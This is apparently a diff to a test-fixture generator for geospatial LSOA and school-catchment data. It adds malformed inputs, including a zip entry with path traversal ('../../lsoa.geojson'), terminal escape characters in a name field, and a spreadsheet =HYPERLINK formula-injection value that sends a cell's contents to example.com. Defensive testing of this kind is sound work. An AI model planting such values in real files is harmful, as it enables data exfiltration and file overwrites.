@@ -66,6 +66,15 @@ def boundaries():
     write("b_not_lsoa_codes.geojson", collection([lsoa_feature("E01000001", square(x, y)),
                                                   lsoa_feature("E0100001X", square(x + 600, y)),
                                                   lsoa_feature("S01006506", square(x + 1200, y))]))
+    short = {"type": "Polygon", "coordinates": [[[x, y], [x + 500, y]]]}
+    write("b_ring_of_two_points.geojson", collection([lsoa_feature("E01000001", square(x, y)),
+                                                      lsoa_feature("E01000002", short)]))
+    write("b_control_characters.geojson", collection([
+        {"type": "Feature", "properties": {"LSOA21CD": "E01000001", "LSOA21NM": "Sample\x1b[31m 001A\x0b"},
+         "geometry": square(x, y)}]))
+    write("b_not_a_zip.zip", "LSOA21CD,x,y\nE01000001,433000,334000\n")
+    with zipfile.ZipFile(HERE / "b_zip_path_traversal.zip", "w") as archive:
+        archive.writestr("../../lsoa.geojson", collection([lsoa_feature("E01000001", square(x, y))]))
     frame = gpd.GeoDataFrame({"LSOA21CD": ["E01000001", "E01000002"]},
                              geometry=[shapely.box(x, y, x + 500, y + 500), shapely.box(x + 600, y, x + 1100, y + 500)],
                              crs=27700)
@@ -133,6 +142,10 @@ def catchments():
     x, y = 433000.0, 334000.0
     write("k_points.geojson", collection([{"type": "Feature", "properties": {"catchment": "A", "URN": 990003},
                                            "geometry": {"type": "Point", "coordinates": [x, y]}}]))
+    odd = sample_features("synthetic_secondary_catchments.geojson", 3)
+    odd[0]["properties"]["URN"] = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    odd[1]["properties"]["catchment"] = "Zone " * 400
+    write("k_formula_urn_and_long_name.geojson", collection(odd))
     sea = sample_features("synthetic_secondary_catchments.geojson", 2)
     sea[1]["geometry"] = square(720_000, 250_000, 2000)
     write("k_in_sea.geojson", collection(sea))
